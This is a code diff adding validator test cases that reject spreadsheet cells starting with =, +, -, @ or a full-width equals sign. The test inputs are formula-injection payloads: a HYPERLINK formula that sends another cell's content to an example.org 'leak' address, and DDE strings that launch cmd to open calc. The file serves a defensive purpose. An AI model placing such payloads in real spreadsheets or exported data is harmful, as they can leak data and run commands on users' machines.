@@ -435,6 +435,23 @@ markups(
 )
 
 
+# spreadsheet formulas: a text cell that a spreadsheet would run
+
+def formula(start: str) -> str:
+    return (f"starts with '{start}', which a spreadsheet runs as a formula: reword it so that it does not start with "
+            "= + - or @ (a text never needs to)")
+
+
+cells(
+    ("formula_hyperlink", "happenings", 5, "title", '=HYPERLINK("https://example.org/?leak="&A1,"China")', formula("=")),
+    ("formula_plus_command", "people", 5, "name", '+cmd|" /C calc"!A0', formula("+")),
+    ("formula_minus_command", "sources", 5, "title", '-2+3+cmd|" /C calc"!A0', formula("-")),
+    ("formula_at_sum", "attestations", 5, "note", "@SUM(1+1)*cmd|' /C calc'!A0", formula("@")),
+    ("formula_full_width_equals", "groups", 3, "description", "\uff1dHYPERLINK(1)", formula("\uff1d"),
+     "\uff1dHYPERLINK(1)"),
+)
+
+
 # web addresses
 
 cells(
